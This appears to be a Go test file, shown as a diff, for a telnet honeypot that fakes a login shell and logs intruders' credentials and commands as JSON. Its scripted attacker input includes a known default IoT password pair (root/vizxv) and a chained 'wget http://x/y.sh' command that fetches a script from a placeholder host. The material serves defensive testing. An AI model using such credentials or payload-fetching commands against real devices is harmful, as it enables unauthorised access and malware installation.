@@ -0,0 +1,72 @@
+package honeypot_test
+
+import (
+	"bytes"
+	"encoding/json"
+	"io"
+	"log/slog"
+	"testing"
+
+	"github.com/tester2024/telnet"
+	"github.com/tester2024/telnet/honeypot"
+	"github.com/tester2024/telnet/telnettest"
+)
+
+func TestHoneypot(t *testing.T) {
+	a, b := telnettest.Pipe()
+	conn := telnet.NewConnection(a, nil)
+	var log bytes.Buffer
+	h := &honeypot.Honeypot{
+		Banner:   "Welcome\n",
+		Hostname: "nas",
+		Commands: map[string]string{"uname": "Linux\n"},
+		Logger:   slog.New(slog.NewJSONHandler(&log, nil)),
+	}
+	b.Write([]byte("admin\r\nadmin\r\nroot\r\nvizxv\r\nuname -a; wget http://x/y.sh\r\nexit\r\n"))
+	h.HandleTelnet(conn)
+	conn.Close()
+
+	out, _ := io.ReadAll(b)
+	want := "Welcome\r\nnas login: Password: \r\nLogin incorrect\r\nnas login: Password: \r\n" +
+		"root@nas:~# Linux\r\n-bash: wget: command not found\r\nroot@nas:~# logout\r\n"
+	if string(out) != want {
+		t.Errorf("Expected %q, got %q", want, out)
+	}
+
+	type record struct {
+		Msg      string
+		User     string
+		Password string
+		Accepted bool
+		Command  string
+		Remote   string
+	}
+	var records []record
+	dec := json.NewDecoder(&log)
+	for dec.More() {
+		var r record
+		if err := dec.Decode(&r); err != nil {
+			t.Fatal(err)
+		}
+		records = append(records, r)
+	}
+	expected := []record{
+		{Msg: "honeypot: connect"},
+		{Msg: "honeypot: login", User: "admin", Password: "admin"},
+		{Msg: "honeypot: login", User: "root", Password: "vizxv", Accepted: true},
+		{Msg: "honeypot: command", User: "root", Command: "uname -a"},
+		{Msg: "honeypot: command", User: "root", Command: "wget http://x/y.sh"},
+		{Msg: "honeypot: command", User: "root", Command: "exit"},
+		{Msg: "honeypot: disconnect"},
+	}
+	if len(records) != len(expected) {
+		t.Fatalf("Expected %d records, got %+v", len(expected), records)
+	}
+	for i, r := range records {
+		want := expected[i]
+		want.Remote = "telnettest.b"
+		if r != want {
+			t.Errorf("Record %d: expected %+v, got %+v", i, want, r)
+		}
+	}
+}